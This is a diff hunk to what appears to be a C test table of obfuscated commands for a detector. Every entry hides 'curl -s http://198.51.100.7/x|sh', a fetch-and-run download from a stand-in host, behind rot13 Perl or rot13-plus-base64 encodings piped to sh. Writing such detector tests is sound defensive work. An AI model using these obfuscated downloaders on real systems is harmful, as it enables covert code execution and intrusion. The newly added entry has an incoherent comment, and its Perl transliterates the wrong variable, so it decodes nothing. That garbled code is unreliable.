@@ -17,6 +17,10 @@ static const struct hidden good[] = {
 	{ "rot13", "curl -s http://198.51.100.7/x|sh",
 		"perl -e '$_=\"phey -f uggc://198.51.100.7/k|fu\";tr/A-Za-z/N"
 		"-ZA-Mn-za-m/;system $_'" },
+	/* What the text names, its first string was found with. */
+	{ "rot13", "curl -s http://198.51.100.7/x|sh",
+		"$x='vq > /gzc/svefg-bs-gurz';$y='phey -f uggc://198.51.100.7"
+		"/k|fu';y/A-Za-z/N-ZA-Mn-za-m/" },
 	{ "rot13+base64", "curl -s http://198.51.100.7/x|sh",
 		"echo L3IloPNgplObqUEjBv8iZGx4YwHkYwRjZP43Y3u8p2t=|tr A-Za-z "
 		"N-ZA-Mn-za-m|base64 -d|sh" },
